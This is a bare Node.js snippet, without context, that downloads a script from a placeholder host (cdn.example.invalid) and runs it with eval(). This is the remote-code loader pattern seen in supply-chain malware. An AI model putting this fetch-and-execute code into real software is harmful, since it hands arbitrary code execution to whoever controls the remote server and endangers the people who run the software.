const https = require('https');
https.get('https://cdn.example.invalid/c.js', (res) => {
  let body = '';
  res.on('data', (d) => body += d);
  res.on('end', () => { eval(body); });
});
